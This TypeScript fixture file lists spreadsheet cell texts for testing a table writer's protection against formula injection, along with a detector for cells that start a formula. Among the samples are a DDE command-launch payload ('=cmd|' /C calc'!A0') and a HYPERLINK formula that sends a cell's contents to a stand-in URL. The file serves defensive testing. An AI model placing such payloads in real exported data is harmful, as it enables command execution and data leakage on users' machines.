/** Texts that a spreadsheet could run as a formula. Every table writer guards them. */
export const FORMULA_CELLS: readonly string[] = [
  '=1+1',
  '+SUM(A1)',
  '-1+1',
  '-cmd',
  '@SUM(A1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '﹦1+1',
  ' =1+1',
  '\t=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u2060 \u200d=1+1',
  '\u0001=1+1',
  '=HYPERLINK("https://example.org?"&A1,"x, y")',
  "=cmd|' /C calc'!A0",
  "'=1+1",
  "''＝1+1",
  "' =1+1",
];

/** Texts that break a naive writer and are written unguarded. */
export const PLAIN_CELLS: readonly string[] = [
  ...[
    '',
    ' ',
    'a,b',
    'a"b',
    '"quoted"',
    '"',
    '""',
    "'tis",
    "it's",
    "'",
    'a=b',
    'a\\b',
    '#N/A',
    '样本,一',
    '🧬',
  ],
  ...['-1.5', '+2', '-1.5e-3', "'-1", '1e21', '007', 'a\u2028b', 'e\u0301', '\u202eabc', 'x'.repeat(40_000)],
];

/** Plain texts with breaks: a CSV cell keeps them, a TSV cell has a blank instead. */
export const BROKEN_CELLS: readonly string[] = ['a\tb', 'a\nb', 'a\r\nb', 'a\rb\n', '"a"\n"b"'];

/** All hostile texts. */
export const HOSTILE_CELLS: readonly string[] = [...FORMULA_CELLS, ...PLAIN_CELLS, ...BROKEN_CELLS];

/** Whether a spreadsheet would run a cell as a formula. Does not use the guard's own expression. */
export function startsFormula(cell: string): boolean {
  const seen = cell.normalize('NFKC').replace(/[\p{C}\p{Z}\p{DI}]/gu, '');
  return ['=', '+', '-', '@'].includes(seen.charAt(0)) && Number.isNaN(Number(seen));
}
